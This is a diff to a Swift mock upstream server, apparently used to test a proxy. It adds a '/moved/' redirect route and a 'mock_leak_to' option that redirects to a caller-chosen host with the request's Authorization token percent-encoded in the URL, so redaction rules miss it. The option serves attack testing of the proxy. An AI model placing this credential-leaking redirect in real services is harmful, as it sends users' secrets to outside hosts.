@@ -1,3 +1,4 @@
+import Foundation
 import PageProxyCore
 import Synchronization
 
@@ -91,11 +92,28 @@ public final class MockUpstream: Sendable {
         return String(repeating: "0", count: 16 - hex.count) + hex
     }
 
+    /// RFC 3986 §2.3: what a percent-encoder leaves as it is (Python's `quote` with `safe=""`).
+    private static let unreserved = CharacterSet(charactersIn: "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
+
+    /// Every service also answers under this prefix with a redirect to its own path (`/moved/eve/items` → `/eve/items`).
+    package static let movedPrefix = "/moved/"
+
     private func answer(_ request: MockRequest, _ query: MockQuery, latencyIsValid: Bool) async -> MockResponse {
         if let service = MockService.appendingSlash(to: query.path) {
             // Django's APPEND_SLASH: a relative Location with the query kept.
             let target = service.path + (request.target.firstIndex(of: "?").map { String(request.target[$0...]) } ?? "")
             return MockErrors.appendSlash(target)
+        }
+        if query.path.hasPrefix(Self.movedPrefix), MockService(path: String(query.path.dropFirst(Self.movedPrefix.count - 1))) != nil {
+            // A resource that moved (a renamed API version): a path-absolute Location with the query kept. Its pages'
+            // relative links are relative to where it moved (RFC 3986 §5.1.3), which the old path redirects to again.
+            return MockErrors.appendSlash(String(request.target.dropFirst(Self.movedPrefix.count - 1)))
+        }
+        if MockService(path: query.path) != nil, let host = query.value("mock_leak_to") {
+            // A redirect to `host` whose URL carries the credential the request sent, percent-encoded, under a name no
+            // redaction rule knows (a signed download link; attack14 M5).
+            let sent = request.header("Authorization")?.split(separator: " ").last.map(String.init) ?? ""
+            return MockErrors.appendSlash("http://\(host)/?x=" + (sent.addingPercentEncoding(withAllowedCharacters: Self.unreserved) ?? sent))
         }
         guard let service = MockService(path: query.path) else { return MockErrors.notFound(path: query.path) }
         guard request.method == "GET" || request.method == "HEAD" else { return MockErrors.methodNotAllowed() }
